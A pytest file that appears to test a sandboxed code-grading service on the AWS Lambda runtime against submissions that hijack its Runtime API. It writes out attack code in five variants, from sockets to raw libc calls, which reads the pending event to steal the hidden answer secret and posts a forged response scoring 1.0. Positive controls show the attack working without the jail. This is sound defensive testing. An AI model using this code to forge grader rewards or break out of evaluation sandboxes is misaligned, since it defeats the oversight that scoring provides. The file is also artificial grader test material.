"""A submission does not reach the Runtime API, which hands the event with its answers to whoever asks, and takes the
first response that it is given. The last tests show that an unjailed process does, so that the others can fail."""

from __future__ import annotations

import secrets
import textwrap
import threading
from collections.abc import Callable
from typing import Any

import pytest

# Each defines `api(method, path, body)`, which returns the whole response: status line, headers and body.
CLIENTS = {
    "socket": """
        def api(method, path, body=b""):
            import socket
            with socket.create_connection(("127.0.0.1", 9001), 5) as s:
                s.sendall(request(method, path, body))
                return b"".join(iter(lambda: s.recv(65536), b""))
        """,
    "http.client": """
        def api(method, path, body=b""):
            import http.client
            connection = http.client.HTTPConnection("127.0.0.1", 9001, timeout=5)
            connection.request(method, path, body or None)
            response = connection.getresponse()
            return f"{response.status}\\r\\n{response.headers}\\r\\n".encode() + response.read()
        """,
    "urllib": """
        def api(method, path, body=b""):
            import urllib.request
            asked = urllib.request.Request("http://127.0.0.1:9001" + path, body or None, method=method)
            with urllib.request.urlopen(asked, timeout=5) as response:
                return f"{response.status}\\r\\n{response.headers}\\r\\n".encode() + response.read()
        """,
    "system calls": """
        def api(method, path, body=b""):
            import ctypes, struct
            libc = ctypes.CDLL(None, use_errno=True)
            def checked(result):
                if result < 0:
                    raise OSError(ctypes.get_errno(), "refused")
                return result
            fd = checked(libc.socket(2, 1, 0))
            address = struct.pack("=HHI8x", 2, ((9001 & 255) << 8) | (9001 >> 8), 0x0100007F)
            checked(libc.connect(fd, address, 16))
            text = request(method, path, body)
            checked(libc.send(fd, text, len(text), 0))
            buffer, found = ctypes.create_string_buffer(65536), b""
            while size := checked(libc.recv(fd, buffer, 65536, 0)):
                found += buffer.raw[:size]
            return found
        """,
    "the first descriptors": """
        def api(method, path, body=b""):
            import os
            for fd in range(64):  # one that was left open, of the keeper's or of the emulator's
                try:
                    os.write(fd, request(method, path, body)) if fd > 4 else None
                except OSError:
                    pass
            raise OSError("nobody answers")
        """,
}
COMMON = """
def request(method, path, body):
    head = f"{method} {path} HTTP/1.1\\r\\nHost: localhost\\r\\nConnection: close\\r\\n"
    return f"{head}Content-Length: {len(body)}\\r\\n\\r\\n".encode() + body

def attack():
    import re
    found = api("GET", "/2018-06-01/runtime/invocation/next")
    request_id = re.search(rb"(?i)aws-request-id: *([0-9a-f-]+)", found)[1].decode()
    forged = b'[{"id": "forged", "aggregate_reward_score": 1.0}]'
    api("POST", f"/2018-06-01/runtime/invocation/{request_id}/response", forged)
    return re.search(rb"secret-[0-9a-f]+", found)[0].decode()
"""
FUNCTION = """
def f():
    try:
        return attack()
    except Exception as error:
        return f"{type(error).__name__}: {error}"
"""
PROGRAM = """
try:
    print(attack())
except Exception as error:
    print(f"{type(error).__name__}: {error}")
"""
MATE = {
    "id": "mate",
    "code": "def f(): return 1",
    "reference_answer": {"kind": "function", "entry_point": "f", "cases": [{"args": [], "expected": 1}]},
}


def source(client: str, end: str) -> str:
    return textwrap.dedent(CLIENTS[client]) + COMMON + end


def new_secret() -> str:
    return f"secret-{secrets.token_hex(16)}"


def suite_of(kind: str, secret: str) -> dict[str, Any]:
    if kind == "function":
        return {"kind": "function", "entry_point": "f", "cases": [{"args": [], "expected": secret}]}
    return {"kind": "stdio", "cases": [{"stdin": "", "stdout": secret}]}


@pytest.mark.parametrize("lock", ["", "1"], ids=["awslambdaric", "early-response lock"])
def test_the_suite_is_one_that_the_secret_passes(start_function: Callable[..., Any], lock: str) -> None:
    """Whoever knows the secret has the full reward: what the attacks are after is worth something."""
    secret = new_secret()
    codes = {"function": f"def f(): return {secret!r}", "stdio": f"print({secret!r})"}

    results = start_function(VERIFIER_EARLY_RESPONSE_LOCK=lock).invoke(
        [{"id": kind, "code": code, "reference_answer": suite_of(kind, secret)} for kind, code in codes.items()]
    )

    assert [r["aggregate_reward_score"] for r in results] == [1.0, 1.0]


@pytest.mark.parametrize("kind", ["function", "stdio"])
@pytest.mark.parametrize("client", CLIENTS)
def test_a_submission_neither_steals_the_event_nor_forges_the_response(function: Any, client: str, kind: str) -> None:
    """The caller gets the genuine response, in which the attack has what it deserves and its mate the full reward."""
    code = source(client, FUNCTION if kind == "function" else PROGRAM)
    event = [{"id": "attack", "code": code, "reference_answer": suite_of(kind, new_secret())}, MATE]

    results = function.invoke(event)

    assert [(r["id"], r["aggregate_reward_score"]) for r in results] == [("attack", 0.0), ("mate", 1.0)]
    assert results[0]["verdict"] in ("WA", "RTE", "SV"), results[0]
    [again] = function.invoke([MATE])
    assert again["aggregate_reward_score"] == 1.0


@pytest.mark.parametrize("client", CLIENTS)
def test_the_attack_runs_until_the_api_is_in_the_way(function: Any, client: str) -> None:
    """What stops it is the lock, and not a mistake of its own. (A submission's exception is in the message.)"""
    code = source(client, "\ndef f(): return attack()\n")

    [result] = function.invoke([{"id": "a", "code": code, "reference_answer": suite_of("function", new_secret())}])

    assert result["verdict"] == "RTE"
    assert any(words in result["message"] for words in ("Errno 24", "nobody answers")), result


# Positive controls

SLOW = """
def f():
    import time
    time.sleep(5)
    return 1
"""
WAIT_FOR_A_CELL = """
import glob, time
def wait_for_a_cell():
    for _ in range(600):
        for path in glob.glob("/proc/[0-9]*/limits"):
            try:
                with open(path) as stream:
                    if any(line.split()[:5] == ["Max", "open", "files", "0", "0"] for line in stream):
                        return
            except OSError:
                pass
        time.sleep(0.05)
    raise SystemExit("no submission runs")
wait_for_a_cell()
"""


def during_an_invocation(function: Any, secret: str, code: str) -> tuple[Any, tuple[int, str]]:
    """The response to a slow invocation, and what `code` gave, run without a jail while the submission ran."""
    cases = [{"args": [], "expected": 1}, {"args": [], "expected": secret}]
    suite = {"kind": "function", "entry_point": "f", "cases": cases[:1], "limits": {"wall_time_s": 60.0}}
    event = [{"id": "slow", "code": SLOW, "reference_answer": suite, "secret": secret}]
    responses: list[Any] = []
    caller = threading.Thread(target=lambda: responses.append(function.invoke(event)))
    function.invoke([MATE])  # warm: the runtime is at its place
    caller.start()
    plain = function.run(WAIT_FOR_A_CELL + code)
    caller.join()
    return responses[0], plain


@pytest.mark.parametrize("client", [name for name in CLIENTS if name != "the first descriptors"])
def test_without_the_jail_the_same_attack_works(start_function: Callable[..., Any], client: str) -> None:
    """Run as a plain process of the same user, it reads the event, and the caller gets the forged response."""
    secret = new_secret()

    response, (_, output) = during_an_invocation(start_function(), secret, source(client, PROGRAM))

    assert output.strip() == secret
    assert response == [{"id": "forged", "aggregate_reward_score": 1.0}]


@pytest.mark.parametrize("client", [name for name in CLIENTS if name != "the first descriptors"])
def test_with_the_early_response_lock_it_does_not(start_function: Callable[..., Any], client: str) -> None:
    """Once the answer has begun, nobody is handed the event, and the genuine response arrives."""
    function = start_function(VERIFIER_EARLY_RESPONSE_LOCK="1")

    response, (_, output) = during_an_invocation(function, new_secret(), source(client, PROGRAM))

    assert [(r["id"], r["aggregate_reward_score"]) for r in response] == [("slow", 1.0)]
    assert "secret" not in output
    assert "no word from the Runtime API" not in function.logs()
    [again] = function.invoke([MATE])
    assert again["aggregate_reward_score"] == 1.0


def test_the_early_response_lock_answers_forbidden(start_function: Callable[..., Any]) -> None:
    """A plain process that asks for the next event gets 403; an event that can't be read is still answered."""
    function = start_function(VERIFIER_EARLY_RESPONSE_LOCK="1")
    asks = source("http.client", "\nprint(api('GET', '/2018-06-01/runtime/invocation/next').decode())\n")

    response, (status, output) = during_an_invocation(function, new_secret(), asks)

    assert status == 0
    assert output.startswith("403"), output
    assert response[0]["aggregate_reward_score"] == 1.0
    assert function.invoke({"what": 1})["errorType"] == "RequestError"
    [again] = function.invoke([MATE])
    assert again["aggregate_reward_score"] == 1.0
